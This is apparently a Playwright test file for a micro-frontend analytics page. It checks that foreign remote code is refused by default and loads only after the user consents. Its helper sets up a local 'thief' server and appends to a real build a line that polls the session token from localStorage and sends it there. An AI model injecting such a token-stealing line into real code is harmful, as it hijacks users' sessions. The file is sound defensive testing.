import { createServer } from 'node:http'
import { once } from 'node:events'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { STORAGE_KEYS } from '@atalaia/contracts'
import { root } from '@atalaia/stack'
import type { Page } from '@playwright/test'
import { analyticsPage, analyticsPath } from '../../pages/analytics-page.ts'
import { expectAccessible } from '../../testing/axe.ts'
import { remoteVariant } from '../../testing/remote-variant.ts'
import { expect, test } from '../../testing/shipping-test.ts'

const name = 'mfe-analytics'

const serveThief = async () => {
  const requests: string[] = []
  let folder = ''
  const server = createServer((request, response) => {
    const path = new URL(request.url ?? '/', 'http://thief').pathname
    requests.push(`${request.url} ${request.headers.authorization ?? ''}`)
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.setHeader('Content-Type', path.endsWith('.json') ? 'application/json' : 'text/javascript')
    void readFile(join(folder, path)).then(
      (content) => response.end(content),
      () => response.writeHead(path === '/stolen' ? 204 : 404).end(),
    )
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address = server.address()
  const url = `http://127.0.0.1:${typeof address === 'object' ? address?.port : 0}`
  const dist = join(root, name, 'dist')
  const { artifact } = JSON.parse(await readFile(join(dist, 'remote.json'), 'utf8'))
  const entry = await readFile(join(dist, artifact.entry), 'utf8')
  const steal = `;setInterval(() => fetch('${url}/stolen?token=' + localStorage.getItem('${STORAGE_KEYS.token}')), 200);`
  const variant = await remoteVariant(dist, { version: '9.0.0', files: () => ({ [artifact.entry]: entry + steal }) })
  folder = variant.folder
  return {
    url,
    requests,
    stop: async () => {
      server.closeAllConnections()
      server.close()
      await variant.remove()
    },
  }
}

const question = (page: Page) => page.getByRole('heading', { name: 'Usar código de outro endereço?' })
const accept = (page: Page) => page.getByRole('button', { name: 'Usar este código' })
const decline = (page: Page) => page.getByRole('button', { name: 'Continuar sem ele' })

// Threat: T-CONSENT-1
test('under npm start a link with foreign code gets nothing, and only this machine reaches the page', async ({
  page,
  signIn,
  stack,
  consoleGuard,
}) => {
  consoleGuard.allow(/status of 403/, 'the link that is refused')
  const thief = await serveThief()
  await signIn()
  const answer = await page.goto(`${analyticsPath}?remote=${name}@${thief.url}`)
  expect(answer?.status()).toBe(403)
  await expect(page.getByText('Este endereço não pode trocar partes da página')).toBeVisible()
  await page.goto(analyticsPath)
  await expect(analyticsPage(page).heading).toBeVisible()
  expect(thief.requests).toEqual([])
  // Of all addresses of this machine that are not 127.0.0.1, the one that every machine has.
  await expect(fetch(stack.url.replace('127.0.0.1', '127.0.0.2'))).rejects.toThrow('fetch failed')
  await thief.stop()
})

test.describe('with overrides open to everybody', () => {
  test.use({ shippingEnv: { ALLOW_OVERRIDES: 'on' } })

  // Rule: M-OVERRIDE-7
  // Threat: T-CONSENT-1
  test('a session goes to foreign code only after a yes', async ({ page, signIn, account, shipping, consoleGuard }) => {
    const thief = await serveThief()
    await signIn({ origin: shipping.url })
    const link = `${shipping.url}${analyticsPath}?remote=${name}@${thief.url}`
    await page.goto(link)
    await expect(question(page)).toBeVisible()
    await expect(page.getByRole('listitem')).toHaveText(`${name}, de ${thief.url}`)
    await expect(page.getByText('Há uma sessão ativa neste navegador.')).toBeVisible()

    await decline(page).press('Enter')
    await expect(analyticsPage(page).heading).toBeVisible()
    expect(thief.requests).toEqual([])

    await page.goto(link)
    consoleGuard.allow(/localhost|127\.0\.0\.1/, 'what the foreign server does not have')
    await accept(page).click()
    await expect(page.getByRole('region', { name: 'Partes em teste' })).toContainText(thief.url)
    // The foreign build would have taken it: it is the question alone that stopped it before.
    await expect.poll(() => thief.requests.join()).toContain(account.token)
    await page.goto('about:blank')
    await thief.stop()
  })

  test('the question reads well, light and dark, at 390 px, without scripts, and by keyboard', async ({
    browser,
    shipping,
  }, testInfo) => {
    for (const colorScheme of ['light', 'dark'] as const) {
      const context = await browser.newContext({ colorScheme, viewport: { width: 390, height: 700 } })
      const page = await context.newPage()
      await page.goto(
        `${shipping.url}/login?remote=${name}@https://um-endereco-bem-comprido.exemplo.com.br/${'a'.repeat(60)}`,
      )
      await expectAccessible(page, colorScheme)
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(390)
      await page.screenshot({ path: testInfo.outputPath(`${colorScheme}.png`), fullPage: true })
      await page.keyboard.press('Tab')
      await expect(decline(page)).toBeFocused()
      await page.keyboard.press('Tab')
      await expect(accept(page)).toBeFocused()
      await context.close()
    }
  })
})
